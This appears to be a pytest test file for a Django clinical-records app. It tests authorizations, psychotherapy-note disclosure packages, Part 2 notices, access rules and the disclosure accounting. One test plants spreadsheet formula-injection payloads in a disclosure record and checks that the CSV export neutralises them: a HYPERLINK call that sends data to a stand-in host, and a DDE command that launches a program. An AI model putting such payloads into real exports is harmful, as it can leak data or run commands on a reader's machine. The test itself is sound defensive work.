import io
import json
import re
import zipfile
from datetime import timedelta

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from django.utils import timezone

from psynote import testing as t
from psynote.accounts.actions import issue_token
from psynote.audit.models import AuditEvent
from psynote.exchange import actions, part2
from psynote.exchange.models import Authorization, Disclosure
from psynote.exchange.tests.conftest import PN_MARKER, authorize

PDF = b"%PDF-1.4\n% fictional\n%%EOF\n"


def form_data(**changes):
    data = {
        "recipient_name": "Dr Fictional Receiver",
        "recipient_organisation": "Clinic",
        "recipient_contact": "1 Imaginary Road",
        "scope": ["progress_notes", "diagnoses"],
        "purpose": "Continuity of care",
        "expires_on": (timezone.localdate() + timedelta(days=90)).isoformat(),
        "signed_on_screen_name": "Avery Fictional",
    }
    data.update(changes)
    return data


def test_a_clinician_records_an_authorization_signed_on_screen(record, login):
    response = login(record.alice).post(
        f"/clients/{record.client.pk}/authorizations/new/", form_data()
    )
    authorization = Authorization.objects.get()
    assert response.status_code == 302
    assert authorization.signed_on_screen_at is not None
    page = login(record.alice).get(f"/clients/{record.client.pk}/authorizations/")
    assert "Dr Fictional Receiver" in page.content.decode()


def test_a_mixed_psychotherapy_note_authorization_is_refused_on_the_form(record, login):
    response = login(record.alice).post(
        f"/clients/{record.client.pk}/authorizations/new/",
        form_data(scope=["psychotherapy_notes", "progress_notes"]),
    )
    assert response.status_code == 400
    assert "psychotherapy notes alone" in response.content.decode()
    assert not Authorization.objects.exists()


def test_an_uploaded_signed_form_downloads_as_it_was(record, login):
    upload = SimpleUploadedFile("signed.pdf", PDF, content_type="text/plain")
    response = login(record.alice).post(
        f"/clients/{record.client.pk}/authorizations/new/",
        form_data(signed_on_screen_name="", signed_form=upload),
    )
    assert response.status_code == 302
    authorization = Authorization.objects.get()
    download = login(record.alice).get(f"/authorizations/{authorization.pk}/signed-form/")
    assert download.content == PDF and download["Content-Type"] == "application/pdf"
    assert AuditEvent.objects.filter(action="authorization.form_view").exists()


def test_revoking_on_the_page(record, login):
    authorization = authorize(record.alice, record.client, {"diagnoses"})
    response = login(record.alice).post(
        f"/authorizations/{authorization.pk}/revoke/", {"reason": "Client asked."}
    )
    assert response.status_code == 302
    authorization.refresh_from_db()
    assert authorization.is_revoked


def test_disclosing_on_the_page_downloads_a_signed_package(record, login):
    authorization = authorize(record.alice, record.client, {"psychotherapy_notes"})
    t.open_psychotherapy_notes(record.alice, login(record.alice))
    response = login(record.alice).post(
        f"/clients/{record.client.pk}/disclose/",
        {
            "authorization": str(authorization.pk),
            "scope": ["psychotherapy_notes"],
            "format": "fhir-bundle",
        },
    )
    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    names = zipfile.ZipFile(io.BytesIO(response.content)).namelist()
    assert {"manifest.json", "manifest.sig", "psychotherapy-notes.txt"} <= set(names)
    assert Disclosure.objects.get().purpose == "Continuity of care"


def test_a_refused_disclosure_shows_why_on_the_form(record, login):
    authorization = authorize(record.alice, record.client, {"diagnoses"})
    response = login(record.alice).post(
        f"/clients/{record.client.pk}/disclose/",
        {
            "authorization": str(authorization.pk),
            "scope": ["psychotherapy_notes"],
            "format": "fhir-bundle",
        },
    )
    assert response.status_code == 400
    assert "does not cover Psychotherapy notes" in response.content.decode()
    assert not Disclosure.objects.exists()


def test_an_exception_without_justification_is_refused_on_the_form(record, login):
    response = login(record.alice).post(
        f"/clients/{record.client.pk}/disclose/",
        {
            "exception": "required_by_law",
            "recipient_name": "Court",
            "purpose": "Order",
            "scope": ["psychotherapy_notes"],
            "format": "fhir-bundle",
        },
    )
    assert response.status_code == 400
    assert "needs your justification" in response.content.decode()


def test_a_part2_record_carries_statement_1_and_the_consent_scope(record, login, tmp_path):
    login(record.alice).post(f"/clients/{record.client.pk}/part2/", {"part2": "on"})
    t.open_psychotherapy_notes(record.alice, login(record.alice))
    authorization = authorize(record.alice, record.client, {"psychotherapy_notes"})
    post = {
        "authorization": str(authorization.pk),
        "scope": ["psychotherapy_notes"],
        "format": "fhir-bundle",
    }
    with override_settings(PART2_NOTICE_FILE=tmp_path / "absent.txt"):
        page = login(record.alice).get(f"/clients/{record.client.pk}/disclose/")
        # (A date box's placeholder="YYYY-MM-DD" attribute is not a placeholder notice.)
        text = re.sub(r'placeholder="[^"]*"', "", page.content.decode())
        assert "placeholder" not in text.lower()
        assert "Part 2 notice (42 CFR 2.32)" in page.content.decode()
        response = login(record.alice).post(f"/clients/{record.client.pk}/disclose/", post)
    notice = zipfile.ZipFile(io.BytesIO(response.content)).read("PART2-NOTICE.txt").decode()
    assert part2.STATEMENT_1 in notice and "PLACEHOLDER" not in notice
    # The explanation of the consent's scope (42 CFR 2.32(b)) follows the statement.
    scope = notice[notice.index("SCOPE OF THE CONSENT"):]
    assert str(authorization.pk) in scope and "Psychotherapy notes" in scope
    assert "Dr Fictional Receiver, Imaginary Psychiatry Clinic" in scope
    assert "Continuity of care" in scope
    assert f"expiring {authorization.expires_on:%Y-%m-%d}" in scope
    configured = tmp_path / "notice.txt"
    configured.write_text("The practice's configured Part 2 statement.")
    with override_settings(PART2_NOTICE_FILE=configured):
        response = login(record.alice).post(f"/clients/{record.client.pk}/disclose/", post)
    notice = zipfile.ZipFile(io.BytesIO(response.content)).read("PART2-NOTICE.txt").decode()
    assert notice.startswith("The practice's configured Part 2 statement.\n\nSCOPE OF THE")
    assert part2.STATEMENT_1 not in notice
    assert all(d.part2_notice for d in Disclosure.objects.all())


@pytest.mark.parametrize(
    "who,status",
    [("alice", 200), ("pria", 200), ("bob", 404), ("ada", 404), ("fred", 404), ("sam", 404)],
)
def test_who_sees_the_accounting_of_disclosures(record, login, who, status):
    response = login(getattr(record.cast, who)).get(
        f"/clients/{record.client.pk}/accounting-of-disclosures/"
    )
    assert response.status_code == status


def test_the_accounting_downloads_as_csv(record, login):
    Disclosure.objects.create(
        client=record.client,
        recipient_name="Fictional County Court",
        scope=["diagnoses"],
        purpose="Subpoena",
        exception="required_by_law",
        justification="Court order.",
        format="pdf",
        package_name="p.zip",
        package_sha256="0" * 64,
        by=record.alice,
    )
    response = login(record.cast.pria).get(
        f"/clients/{record.client.pk}/accounting-of-disclosures/?format=csv"
    )
    assert response["Content-Type"].startswith("text/csv")
    assert "Fictional County Court" in response.content.decode()
    assert AuditEvent.objects.filter(action="disclosure.accounting").exists()


def test_the_accounting_csv_neutralises_cells_a_spreadsheet_would_run(record, login):
    import csv
    import io

    Disclosure.objects.create(
        client=record.client,
        recipient_name='=HYPERLINK("http://example.invalid/?leak","Open")',
        recipient_contact="=cmd|' /C calc'!A0",
        scope=["diagnoses"],
        purpose="@SUM(1+1)",
        exception="required_by_law",
        justification="Court order.",
        format="pdf",
        package_name="p.zip",
        package_sha256="0" * 64,
        by=record.alice,
    )
    response = login(record.cast.pria).get(
        f"/clients/{record.client.pk}/accounting-of-disclosures/?format=csv"
    )
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells, "the disclosure is in the accounting"
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=HYPERLINK(\"http://example.invalid/?leak\",\"Open\")" in cells


def test_the_privacy_officer_reads_the_disclosure_log_and_nobody_else(record, login):
    assert login(record.cast.pria).get("/disclosures/").status_code == 200
    assert login(record.alice).get("/disclosures/").status_code == 404


@pytest.mark.parametrize("who,status", [("alice", 200), ("ada", 200), ("pria", 200), ("fred", 404)])
def test_the_practice_key_page(record, login, who, status):
    assert login(getattr(record.cast, who)).get("/practice-key/").status_code == status


def _api(client, user, method, url, body=None):
    _, secret = issue_token(by=user, name="test")
    return client.generic(
        method,
        url,
        data=json.dumps(body) if body is not None else "",
        content_type="application/json",
        headers={"Authorization": f"Bearer {secret}"},
    )


def test_the_api_creates_lists_and_discloses(record, client):
    base = f"/api/v1/clients/{record.client.pk}"
    created = _api(
        client,
        record.alice,
        "POST",
        f"{base}/authorizations",
        {
            "recipient_name": "Dr Receiver",
            "scope": ["psychotherapy_notes"],
            "purpose": "Care",
            "expires_on": (timezone.localdate() + timedelta(days=30)).isoformat(),
            "signed_on_screen_name": "Avery Fictional",
        },
    )
    assert created.status_code == 201, created.content
    listed = _api(client, record.cast.pria, "GET", f"{base}/authorizations")
    assert [a["id"] for a in listed.json()] == [created.json()["id"]]
    body = {
        "authorization_id": created.json()["id"],
        "scope": ["psychotherapy_notes"],
        "format": "fhir-bundle",
    }
    # An API token cannot open psychotherapy notes (ADR 0009): refused, nothing disclosed.
    sealed = _api(client, record.alice, "POST", f"{base}/disclosures", body)
    assert sealed.status_code == 403
    assert "sealed to their author" in sealed.json()["detail"]
    assert not Disclosure.objects.exists()
    # The author's signed-in browser session, where her key is open, discloses them.
    client.force_login(record.alice)
    t.open_psychotherapy_notes(record.alice, client)
    package = client.post(f"{base}/disclosures", json.dumps(body),
                          content_type="application/json")
    assert package.status_code == 200
    inside = zipfile.ZipFile(io.BytesIO(package.content)).read("psychotherapy-notes.txt")
    assert PN_MARKER in inside.decode()
    assert Disclosure.objects.get().channel == "api"


def test_the_api_refuses_what_the_gate_refuses(record, client):
    authorization = authorize(record.alice, record.client, {"diagnoses"})
    response = _api(
        client,
        record.alice,
        "POST",
        f"/api/v1/clients/{record.client.pk}/disclosures",
        {
            "authorization_id": str(authorization.pk),
            "scope": ["psychotherapy_notes"],
            "format": "fhir-bundle",
        },
    )
    assert response.status_code == 400
    assert "does not cover" in response.json()["detail"]


def test_the_api_accounting_lists_accountable_disclosures(record, client):
    actions.set_part2(by=record.alice, client=record.client, part2=False)
    response = _api(
        client,
        record.cast.pria,
        "GET",
        f"/api/v1/clients/{record.client.pk}/accounting-of-disclosures",
    )
    assert response.status_code == 200
    assert response.json()["entries"] == []
